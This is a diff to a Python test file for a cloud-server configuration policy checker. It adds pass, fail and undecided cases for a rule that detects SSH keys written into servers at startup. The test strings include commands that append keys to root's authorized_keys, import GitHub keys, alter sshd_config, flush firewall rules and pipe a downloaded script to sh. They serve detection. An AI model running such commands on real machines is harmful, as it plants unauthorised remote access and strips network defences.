@@ -47,6 +47,7 @@ from .test_catalogue import BY_ID, results
 
 IMAGE = S + "instance/image:Image"
 TEMPLATE = S + "autoscaling/instanceTemplate:InstanceTemplate"
+METAL = S + "elasticmetal/server:Server"
 USER_DATA = S + "instance/userData:UserData"
 UUID = "99999999-9999-4999-8999-999999999999"
 FIELDS = {"Version": "2023-04-17"}
@@ -198,6 +199,22 @@ FAIL: list[tuple[str, str, dict[str, Any]]] = [
     ("start-adds-nobody", SRV, started("#cloud-config\nchpasswd: {list: 'root:x'}\n")),
     ("start-adds-nobody", SRV, run_by("useradd -m eve")),
     ("start-adds-nobody", SRV, run_by("echo ssh-ed25519 A >> /root/.ssh/authorized_keys")),
+    *(
+        ("start-no-written-key", type_, {"tags": ["a", tag]})
+        for type_, tag in zip((SRV, METAL, TEMPLATE), ("AUTHORIZED_KEY=ssh-rsa_A", " authorized_key=ssh-rsa_A", "Authorized_Key="), strict=True)
+    ),
+    ("start-no-written-key", SRV, {"tags": [UNKNOWN, "AUTHORIZED_KEY=ssh-rsa_A"]}),
+    ("start-no-written-key", SRV, {"tags": UNKNOWN, **started("#cloud-config\nssh_import_id: [gh:eve]\n")}),
+    ("start-no-written-key", METAL, started("#cloud-config\nssh_authorized_keys: [ssh-ed25519 A]\n")),
+    ("start-no-written-key", SRV, started("#cloud-config\nusers:\n- default\n- {name: ops, ssh-authorized-keys: [ssh-ed25519 A]}\n")),
+    ("start-no-written-key", SRV, started("#cloud-config\nusers: {name: ops, ssh_import_id: [gh:eve]}\n")),
+    ("start-no-written-key", USER_DATA, {"key": "cloud-init", "value": "#!/bin/sh\ncat k | tee -a /root/.ssh/authorized_keys"}),
+    ("start-no-written-key", SRV, run_by("rm -f /root/.ssh/x && echo ssh-ed25519 A >> /root/.ssh/authorized_keys")),
+    ("start-no-written-key", SRV, run_by("cat /x > /root/.ssh/authorized_keys2")),
+    ("start-no-written-key", SRV, run_by("sudo -u ops ssh-import-id gh:eve")),
+    ("start-no-written-key", SRV, run_by("echo TrustedUserCAKeys /etc/ca.pub >> /etc/ssh/sshd_config")),
+    ("start-no-written-key", SRV, started("#cloud-config\nwrite_files: [{path: /root/.ssh/authorized_keys, content: ssh-ed25519 A}]\n")),
+    ("start-no-written-key", SRV, started("#cloud-config\nwrite_files: [{path: /etc/ssh/sshd_config.d/x, content: 'AuthorizedKeysCommand /x'}]\n")),
     ("start-keeps-guards", SRV, run_by("systemctl disable --now nftables")),
     ("start-keeps-guards", SRV, run_by("iptables -P INPUT ACCEPT")),
     ("start-keeps-guards", SRV, run_by("nft flush ruleset")),
@@ -222,6 +239,10 @@ PASS: list[tuple[str, str, dict[str, Any]]] = [
     ("start-runs-no-download", SRV, {"userData": {"data-volume": "curl https://x.example/i | sh"}}),
     ("start-opens-no-ssh", SRV, run_by("# PermitRootLogin yes", "echo PermitRootLogin no >> /etc/ssh/sshd_config")),
     ("start-adds-nobody", SRV, run_by("passwd -l root")),
+    ("start-no-written-key", SRV, {"tags": ["authorized=yes", "owner=AUTHORIZED_KEY="]}),
+    ("start-no-written-key", SRV, run_by("rm -f /root/.ssh/authorized_keys", "chmod 600 /root/.ssh/authorized_keys")),
+    ("start-no-written-key", SRV, run_by("# echo A >> /root/.ssh/authorized_keys", "cat /root/.ssh/authorized_keys")),
+    ("start-no-written-key", SRV, started("#cloud-config\nusers: [default]\nssh_authorized_keys: []\n")),
     ("start-keeps-guards", SRV, run_by("systemctl enable --now nftables", "systemctl restart nftables")),
     ("server-image-known", SRV, {}),
 ]  # fmt: skip
@@ -236,6 +257,9 @@ UNDECIDED: list[tuple[str, str, dict[str, Any]]] = [
     ("iam-trail-kept", POL, sets("AuditTrailExportCreate")),
     ("iam-trail-kept", POL, {"rules": UNKNOWN}),
     ("security-group-no-everybody", SG, inbound(ipRange="some.name.example")),
+    ("start-no-written-key", SRV, {"tags": [UNKNOWN]}),
+    ("start-no-written-key", SRV, {"tags": UNKNOWN}),
+    ("start-no-written-key", SRV, {"cloudInit": UNKNOWN}),
     ("server-image-known", SRV, {"image": "wordpress"}),
     ("server-image-known", SRV, {"image": UNKNOWN}),
     ("start-runs-no-download", SRV, started(UNKNOWN)),
